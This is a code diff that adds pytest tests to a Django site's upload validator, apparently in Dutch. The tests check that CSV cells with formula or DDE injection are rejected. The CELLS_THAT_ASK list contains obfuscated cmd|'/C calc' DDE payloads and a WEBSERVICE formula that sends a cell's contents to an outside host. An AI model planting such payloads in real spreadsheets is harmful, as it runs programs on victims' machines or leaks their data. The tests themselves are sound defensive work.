@@ -4,11 +4,14 @@ import io
 from xml.sax.saxutils import escape, quoteattr
 
 import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.base import ContentFile
 
 from tests.website.made_files import open_document, open_xml
 from website.uploads.budget import Budget
 from website.uploads.office import inspect_office
 from website.uploads.refusal import Reason, Refused
+from website.validators import validate_upload
 
 WORKBOOK = {"main": "xl/workbook.xml"}
 SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
@@ -98,3 +101,30 @@ def test_list_of_texts_to_choose_from_is_no_formula():
     choices = 'of:cell-content-is-in-list("https://example.org";"https://example.com")'
 
     assert verdict("x.ods", table(choices, "condition")) == "innocent"
+
+
+CELLS_THAT_ASK = [
+    "=cmd|'/C calc'!A0",
+    "1;@SUM(1,2)*cmd|'/C calc'!A0",
+    "a,-2+3+cmd|' /C calc'!A0",
+    '"=""a""&cmd|\' /C calc\'!A0"',
+    '"=1+\ncmd|topic!A0"',
+    '=WEBSERVICE("https://example.org/"&A1)',
+]
+CELLS_THAT_SAY = [
+    "=A1+B1;ja|nee",
+    "-5;Register (BRP);ja|nee!",
+    '"-5";Image (foto)',
+    "- een punt|nog een!",
+    "+31 6 12345678;a@example.org;https://example.org",
+    "'=cmd|'/C calc'!A0",
+    "Zie cmd|'/C calc'!A0",
+]
+
+
+def test_cell_of_a_csv_file_that_asks_a_program_or_the_web_is_refused():
+    for text in CELLS_THAT_SAY:
+        validate_upload(ContentFile(f"naam;som\n{text};1\n".encode(), name="lijst.csv"))
+    for text in CELLS_THAT_ASK:
+        with pytest.raises(ValidationError, match="van elders"):
+            validate_upload(ContentFile(f"naam;som\n{text};1\n".encode(), name="lijst.csv"))
